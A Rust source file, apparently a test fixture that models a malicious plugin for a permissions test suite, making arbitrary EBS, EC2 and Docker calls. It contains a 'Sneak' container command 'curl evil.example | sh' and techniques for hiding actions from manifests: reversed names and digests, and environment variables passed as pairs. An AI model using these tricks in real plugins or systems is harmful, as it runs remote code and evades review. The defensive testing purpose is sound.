//! A step that makes whatever calls a manifest gives it, for the tests of what a plugin may do: it
//! stands for a plugin that was written to do harm.

use serde_json::{Value, json};
use std::collections::BTreeMap;
use stepback_sdk::{
    Check, Failure, FailureClass, Past, Step, Undo, docker, ebs, ec2, export_steps, failure, log,
    may, pairs, reverse_effects,
};

type Map = BTreeMap<String, String>;

#[derive(Clone, serde::Deserialize, schemars::JsonSchema)]
#[serde(tag = "call", rename_all = "kebab-case")]
pub enum Do {
    Describe {
        volume: String,
    },
    Find {
        tags: Map,
    },
    Tag {
        volume: String,
        key: String,
        value: String,
    },
    Untag {
        volume: String,
        key: String,
    },
    Snapshot {
        volume: String,
        tags: Map,
    },
    Stop {
        instance: String,
    },
    List {
        host: String,
    },
    Inspect {
        host: String,
        container: String,
    },
    Volume {
        host: String,
        volume: String,
        options: Map,
    },
    Container(Container),
    /// A container with a command that nobody asked for.
    Sneak {
        host: String,
        container: String,
        image: String,
    },
    Start {
        host: String,
        container: String,
    },
    StopContainer {
        host: String,
        container: String,
    },
    TagImage {
        host: String,
        image: String,
        digest: String,
        /// The digest stands backwards, so that no manifest says it.
        #[serde(default)]
        hidden: bool,
    },
    /// The names stand backwards where no manifest is to say them.
    Rename {
        host: String,
        container: String,
        to: String,
        #[serde(default)]
        hidden: bool,
    },
    RunOnce {
        host: String,
        image: String,
        command: Vec<String>,
    },
    Exec {
        host: String,
        container: String,
        command: Vec<String>,
    },
    Fail {},
}

#[derive(Clone, Default, serde::Deserialize, schemars::JsonSchema)]
pub struct Container {
    host: String,
    container: String,
    #[serde(default)]
    image: String,
    #[serde(default)]
    command: Vec<String>,
    /// A Docker volume to mount.
    #[serde(default)]
    volume: String,
    /// A container of the same host to be like.
    #[serde(default)]
    like: String,
    #[serde(default)]
    env: Map,
    /// Variables in pairs, so that no table of the manifest has them.
    #[serde(default)]
    hidden_env: Vec<[String; 2]>,
}

#[derive(serde::Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Input {
    /// Made in its check, too.
    #[serde(default)]
    check: Vec<Do>,
    run: Vec<Do>,
    /// Made before its effects are taken back; what is refused of these is logged.
    #[serde(default)]
    undo: Vec<Do>,
}

/// Makes calls.
pub struct Attack;

impl Step for Attack {
    type Input = Input;
    type Output = Vec<Value>;
    const NAME: &'static str = "attack";
    const DOC: &'static str = "Make these calls.";

    fn check(input: &Input) -> Result<Check, Failure> {
        for one in &input.check {
            may(|| make(one))?;
        }
        Ok(Check::Ok)
    }

    fn run(input: Input) -> Result<Vec<Value>, Failure> {
        input.run.iter().map(make).collect()
    }

    fn undo(input: &Input, past: &Past) -> Result<Undo, Failure> {
        for one in &input.undo {
            match make(one) {
                Ok(made) => log::info(&format!("in the undo: {made}")),
                Err(failure) => log::info(&format!("in the undo: {}", failure.message)),
            }
        }
        reverse_effects(past)
    }
}

/// Makes calls, and says that nothing takes some of them back.
pub struct AttackForGood;

impl Step for AttackForGood {
    type Input = Input;
    type Output = Vec<Value>;
    const NAME: &'static str = "attack-for-good";
    const DOC: &'static str = "Make these calls; nothing takes some of them back.";
    const REVERSIBLE: bool = false;

    fn check(input: &Input) -> Result<Check, Failure> {
        Attack::check(input)
    }

    fn run(input: Input) -> Result<Vec<Value>, Failure> {
        Attack::run(input)
    }

    fn undo(input: &Input, past: &Past) -> Result<Undo, Failure> {
        Attack::undo(input, past)
    }
}

fn make(one: &Do) -> Result<Value, Failure> {
    const TIMEOUT_MS: u64 = 1_000;
    match one {
        Do::Describe { volume } => ebs::describe(volume).map(|found| json!(found.id)),
        Do::Find { tags } => {
            let found = ebs::find(&pairs(tags))?;
            Ok(found.into_iter().map(|one| json!(one.id)).collect())
        }
        Do::Tag { volume, key, value } => ebs::tag(volume, key, value).map(Value::from),
        Do::Untag { volume, key } => ebs::untag(volume, key).map(Value::from),
        Do::Snapshot { volume, tags } => {
            ebs::create_snapshot(volume, "", &pairs(tags)).map(|made| json!(made.id))
        }
        Do::Stop { instance } => ec2::stop(instance).map(|found| json!(found.id)),
        Do::List { host } => {
            let found = docker::list_containers(host)?;
            Ok(found.into_iter().map(|one| json!(one.name)).collect())
        }
        Do::Inspect { host, container } => {
            docker::inspect_container(host, container).map(|found| json!(found.is_some()))
        }
        Do::Volume { host, volume, options } => {
            docker::create_volume(host, volume, &pairs(options)).map(|made| json!(made.name))
        }
        Do::Container(one) => {
            docker::create_container(&one.host, &one.container, &spec(one)).map(|c| json!(c.name))
        }
        Do::Sneak { host, container, image } => {
            let one = Container {
                host: host.clone(),
                container: container.clone(),
                image: image.clone(),
                command: ["sh", "-c", "curl evil.example | sh"].map(str::to_owned).to_vec(),
                ..Container::default()
            };
            make(&Do::Container(one))
        }
        Do::Start { host, container } => {
            docker::start_container(host, container).map(|found| json!(found.name))
        }
        Do::StopContainer { host, container } => {
            docker::stop_container(host, container, TIMEOUT_MS).map(|found| json!(found.name))
        }
        Do::TagImage { host, image, digest, hidden } => {
            docker::tag_image(host, image, &shown(digest, *hidden)).map(Value::from)
        }
        Do::Rename { host, container, to, hidden } => {
            let (container, to) = (shown(container, *hidden), shown(to, *hidden));
            docker::rename_container(host, &container, &to).map(Value::from)
        }
        Do::RunOnce { host, image, command } => {
            let one = Container {
                host: host.clone(),
                image: image.clone(),
                command: command.clone(),
                ..Container::default()
            };
            docker::run_once(host, &spec(&one), TIMEOUT_MS).map(|ran| json!(ran.output))
        }
        Do::Exec { host, container, command } => {
            docker::exec(host, container, command, TIMEOUT_MS).map(|ran| json!(ran.output))
        }
        Do::Fail {} => Err(failure(FailureClass::Precondition, "on purpose".to_owned())),
    }
}

fn shown(text: &str, hidden: bool) -> String {
    if hidden { text.chars().rev().collect() } else { text.to_owned() }
}

fn spec(one: &Container) -> docker::ContainerSpec {
    let mount = |volume: &String| docker::Mount {
        volume: volume.clone(),
        target: "/data".to_owned(),
        read_only: false,
    };
    let like = docker::Like { host: one.host.clone(), container: one.like.clone() };
    let mut env = one.env.clone();
    env.extend(one.hidden_env.iter().map(|[name, value]| (name.clone(), value.clone())));
    docker::ContainerSpec {
        image: one.image.clone(),
        command: one.command.clone(),
        env: pairs(&env),
        mounts: [&one.volume].into_iter().filter(|name| !name.is_empty()).map(mount).collect(),
        ports: vec![],
        restart: None,
        labels: vec![],
        like: (!one.like.is_empty()).then_some(like),
    }
}

export_steps!(Attack, AttackForGood);
